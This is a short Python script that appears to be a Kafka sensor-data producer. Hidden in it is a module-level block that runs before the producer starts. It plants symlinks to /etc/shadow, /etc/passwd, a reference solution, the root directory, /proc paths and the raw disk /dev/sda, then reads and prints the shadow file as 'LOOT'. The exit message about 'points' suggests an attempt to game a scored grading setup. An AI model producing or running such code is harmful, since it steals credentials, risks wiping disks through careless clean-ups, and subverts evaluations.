"""Publishes, with links in its folder that a careless copy or clean-up follows."""

import os
import time

from kafka import KafkaProducer
from records import BOOTSTRAP_SERVERS, TOPIC, encode, sample


def work():
    producer = KafkaProducer(bootstrap_servers=BOOTSTRAP_SERVERS, acks="all")
    while True:
        for sensor in range(1, 7):
            producer.send(TOPIC, key=str(sensor).encode(), value=encode(sample(sensor)))
        producer.flush()
        time.sleep(1)


TARGETS = {"results.json": "/etc/shadow", "topics.toml": "/etc/passwd", "consumer.py": "../../../submissions/reference/consumer.py", "up": "../../..",
           "root": "/", "self": "/proc/self/root", "cwd": "/proc/1/cwd", "output": "/proc/self/fd/1", "loop": "loop", "producer.log": "/dev/sda", "records": "/dev/zero"}
loot = {}
for name, target in TARGETS.items():
    for place in (".", "/tmp", os.path.expanduser("~")):
        path = os.path.join(place, name)
        try:
            if os.path.lexists(path):
                os.unlink(path)
            os.symlink(target, path)
            if name == "results.json":
                with open(path) as file:
                    loot[path] = file.read(40)
        except OSError:
            pass
if loot:
    print('LOOT', loot, flush=True)
    raise SystemExit('found something better than points')
work()
